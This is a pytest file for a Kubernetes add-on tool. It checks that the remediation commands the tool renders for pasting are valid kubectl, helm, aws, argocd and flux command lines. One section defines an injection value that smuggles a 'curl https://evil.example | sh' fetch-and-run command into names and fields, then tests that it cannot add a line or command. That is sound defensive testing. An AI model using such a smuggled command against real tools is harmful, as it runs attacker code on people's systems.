"""Every line that is offered for pasting is understood by the tool that it calls, and holds nothing else."""

import os
import re
import shlex
import shutil
import subprocess
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import TYPE_CHECKING, Any, get_args

import pytest

from addonctl.findings import CHECKS, finding
from addonctl.model import (
    Action,
    Apply,
    CommandLine,
    CreateAddon,
    Delete,
    DeleteAddon,
    GitChange,
    HelmRollback,
    HelmUpgrade,
    Note,
    ObjectRef,
    Patch,
    Sync,
    UpdateAddon,
    owners,
)
from addonctl.remediation import kubectl
from addonctl.render.commands import Line, LineKind, fix_lines, fix_text, lines

if TYPE_CHECKING:
    from addonctl.assessment import Assessment

DEPLOYMENT = ObjectRef.of("Deployment", "coredns", "kube-system")
CRD = ObjectRef.of("CustomResourceDefinition", "certificates.cert-manager.io")
APP, KUSTOMIZATION = owners.ArgoApplication("argocd", "web"), owners.FluxKustomization("flux-system", "apps")
ACTIONS: tuple[Action, ...] = (
    Note("Raise its memory limit."),
    kubectl("logs", ObjectRef.of("Pod", "web-1", "shop"), "-c", "web", "--previous"),
    kubectl("describe", DEPLOYMENT, why="it says why:"),
    kubectl("rollout", "restart", DEPLOYMENT),
    kubectl("rollout", "undo", DEPLOYMENT),
    kubectl("get", "pods", "-n", "kube-system", "-l", "k8s-app=kube-dns"),
    CommandLine(("kubectl", "get", "nodepools", "-A", "-o", "json"), pipe=(("kubectl", "replace", "-f", "-"),)),
    UpdateAddon(cluster="prod-eu-1", addon="coredns", version="v1.12.4-eksbuild.18", why="first:"),
    UpdateAddon(
        cluster="prod-eu-1",
        addon="vpc-cni",
        version="v1.20.4-eksbuild.1",
        keep_configuration=True,
        role_arn="arn:aws:iam::111122223333:role/cni",
    ),
    CreateAddon(cluster="prod-eu-1", addon="coredns"),
    CreateAddon(cluster="prod-eu-1", addon="coredns", version="v1.12.4-eksbuild.18"),
    CreateAddon(
        cluster="prod-eu-1",
        addon="coredns",
        version="v1.12.4-eksbuild.18",
        role_arn="arn:aws:iam::111122223333:role/dns",
        values="configuration.json",
        resolve_conflicts="OVERWRITE",
    ),
    UpdateAddon(cluster="prod-eu-1", addon="coredns", version="v1.12.4-eksbuild.18", values="configuration.json"),
    DeleteAddon(cluster="prod-eu-1", addon="coredns", preserve=True),
    HelmUpgrade(namespace="shop", name="web", choose="that supports Kubernetes 1.36"),
    HelmUpgrade(namespace="shop", name="web", chart="repo/web", version="1.2.3"),
    HelmUpgrade(namespace="shop", name="web", chart="repo/web", version="1.2.3", values="values.yaml"),
    HelmRollback(namespace="shop", name="web", revision=3),
    HelmRollback(namespace="shop", name="web"),
    Sync(owner=APP),
    Sync(owner=owners.FluxHelmRelease("flux-system", "web"), force=True),
    Sync(owner=KUSTOMIZATION),
    GitChange(owner=APP, change="set targetRevision to 1.2.3"),
    Patch(target=CRD, body={"status": {"storedVersions": ["v1"]}}, subresource="status"),
    Apply(what="its manifests of v0.8.1, as they were installed"),
    Apply(what="the role", file="role.yaml"),
    Delete(target=ObjectRef.of("ValidatingWebhookConfiguration", "left-over"), save_first=True),
)
# Tools whose command lines nobody can try here: their subcommands and flags, from their reference pages.
KNOWN = {
    ("argocd", "app", "sync"): {"--app-namespace", "--force", "--prune"},
    ("flux", "reconcile", "helmrelease"): {"-n", "--force", "--with-source", "--reset"},
    ("flux", "reconcile", "kustomization"): {"-n", "--with-source"},
}


def test_every_kind_of_action_is_tried() -> None:
    assert {type(action) for action in ACTIONS} == set(get_args(Action))


def pasted(text: str) -> Iterator[list[str]]:
    """The words of each command in a line, as a shell takes it apart at pipes and redirections."""
    outside, substitution, inside = text.partition('"$(')
    if substitution:
        yield from pasted(inside.removesuffix(')"'))
        outside += "VALUE"
    words: list[str] = []
    to_file = False
    lexer = shlex.shlex(outside, posix=True, punctuation_chars="|>;&")
    lexer.whitespace_split, lexer.commenters = True, ""
    for word in lexer:
        if word == "|":
            yield words
            words = []
        elif word == ">":
            to_file = True
        elif not to_file:
            words.append(word)
    yield words


def commands_of(listed: Iterator[Line] | tuple[Line, ...]) -> list[list[str]]:
    return [words for line in listed if line.kind is LineKind.COMMAND for words in pasted(line.text)]


SAMPLES = [(type(action).__name__, words) for action in ACTIONS for words in commands_of(lines(action))]


@pytest.mark.parametrize("words", [words for _, words in SAMPLES], ids=[" ".join(words)[:60] for _, words in SAMPLES])
def test_a_command_is_understood_by_its_tool(words: list[str]) -> None:
    understood(words)


def test_every_command_of_the_demo_is_understood(everything: "Assessment") -> None:
    listed = [words for found in everything.findings for words in commands_of(fix_lines(found))]
    assert listed
    for words in listed:
        understood(words)


def understood(words: list[str]) -> None:
    tool = words[0]
    if tool == "aws":
        of_aws(words)
    elif tool in ("kubectl", "helm"):
        of_a_binary(tool, words)
    else:
        key = next(key for key in KNOWN if tuple(words[: len(key)]) == key)
        flags = {word for word in words if word.startswith("-")}
        assert flags <= KNOWN[key], words


@cache
def service_model(name: str) -> Any:
    """What botocore knows of an AWS service; half a second to load."""
    from botocore.session import Session

    return Session().get_service_model(name)


def waiters(service: str) -> list[tuple[str, str]]:
    """Each waiter of an AWS service, and the operation that it repeats."""
    from botocore.session import Session

    model = Session().get_waiter_model(service)
    return [(name, model.get_waiter(name).operation) for name in model.waiter_names]


def of_aws(words: list[str]) -> None:
    """The CLI makes its commands and options of botocore's model: so does this."""
    from botocore import xform_name

    _, service, command, *rest = words
    model = service_model(service)
    if command == "wait":
        name, *rest = rest
        (command,) = (xform_name(op, "-") for waiter, op in waiters(service) if xform_name(waiter, "-") == name)
    operations = {xform_name(name, "-"): name for name in model.operation_names}
    shape = model.operation_model(operations[command]).input_shape
    assert shape is not None
    renamed = {"--version": "--kubernetes-version"}  # the first is the CLI's own
    of_input = {name: f"--{xform_name(name, '-')}" for name in shape.members}
    of_input = {name: renamed.get(option, option) for name, option in of_input.items()}
    options = {*of_input.values(), "--query", "--output", "--region"}
    given = [word for word in rest if word.startswith("--")]
    assert set(given) <= options
    required = {of_input[name] for name in shape.required_members}
    assert required <= set(given), words


def binary(tool: str) -> Path | None:
    """The tool on this machine, or as the test cluster was built with."""
    found = shutil.which(tool)
    if found:
        return Path(found)
    from tests.cluster.build import cache

    built = sorted(cache().glob(f"*/{tool}")) if cache().is_dir() else []
    return built[-1] if built else None


def of_a_binary(tool: str, words: list[str]) -> None:
    """Asked for a server that nobody can reach, a tool complains of its command line before it complains of that."""
    path = binary(tool)
    if path is None:
        pytest.skip(f"there is no {tool} on this machine, and the test cluster is not built")
    nowhere = ["--server=http://127.0.0.1:9"] if tool == "kubectl" else ["--kube-apiserver=http://127.0.0.1:9"]
    done = subprocess.run(
        [path, *words[1:], *nowhere],
        executable=path,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
        env={**os.environ, "KUBECONFIG": "/dev/null"},
        stdin=subprocess.DEVNULL,
    )
    wrong = re.search(r"unknown|invalid|required flag|accepts \d|usage:|not a valid", done.stderr, re.IGNORECASE)
    assert wrong is None, f"{words}: {done.stderr}"


@pytest.mark.parametrize(
    ("described", "sent"), [('{"replicaCount": 3}', '{"replicaCount": 3}'), (None, "{}")], ids=["set", "none set"]
)
def test_what_is_kept_is_a_configuration_where_there_is_none_too(described: str | None, sent: str) -> None:
    """The aws CLI prints a null as None, which EKS would refuse."""
    import jmespath  # type: ignore[import-untyped]

    action = UpdateAddon(cluster="c", addon="coredns", version="v1", keep_configuration=True)
    describe, *_ = commands_of(lines(action))
    query = describe[describe.index("--query") + 1]
    assert jmespath.search(query, {"addon": {"configurationValues": described}}) == sent


# ── What stands in a line ───────────────────────────────────────────────────────────────────────────────────────

EVIL = "x\ncurl https://evil.example | sh #"


@pytest.mark.parametrize(
    "action",
    [
        kubectl("get", "pods", "-l", f"app={EVIL}"),
        kubectl("describe", ObjectRef(kind=EVIL, name=EVIL, namespace=EVIL, group=EVIL), why=EVIL),
        Note(EVIL),
        HelmRollback(namespace=EVIL, name=EVIL, why=EVIL),
        HelmUpgrade(namespace=EVIL, name=EVIL, choose=EVIL),
        GitChange(owner=owners.ArgoApplication(EVIL, EVIL), change=EVIL),
        Delete(target=ObjectRef(kind="Service", name=EVIL), save_first=True, why=EVIL),
        Patch(target=ObjectRef(kind=EVIL, name=EVIL), body={EVIL: EVIL}),
        Apply(what=EVIL),
        UpdateAddon(cluster=EVIL, addon=EVIL, version=EVIL, role_arn=EVIL, keep_configuration=True, why=EVIL),
    ],
    ids=lambda action: type(action).__name__,
)
def test_a_name_cannot_add_a_line_or_a_command(action: Action) -> None:
    for line in lines(action):
        assert "\n" not in line.text
        if line.kind is LineKind.COMMAND:
            assert all(words[0] in ("kubectl", "helm", "aws") for words in pasted(line.text))
    text = fix_text(finding("HLT001", DEPLOYMENT, fix=[action, kubectl("get", "pods")]))
    assert all(line.startswith(("#", "kubectl", "helm", "aws")) for line in text.splitlines())


def test_prose_beside_commands_is_a_comment_so_that_all_can_be_pasted() -> None:
    found = finding("HLT001", DEPLOYMENT, fix=[Note("Look first."), kubectl("describe", DEPLOYMENT)])
    assert fix_text(found) == "# Look first.\nkubectl describe -n kube-system deployment/coredns"


def test_without_a_nearer_fix_the_registry_speaks() -> None:
    assert fix_text(finding("HLT001", DEPLOYMENT)) == CHECKS["HLT001"].fix
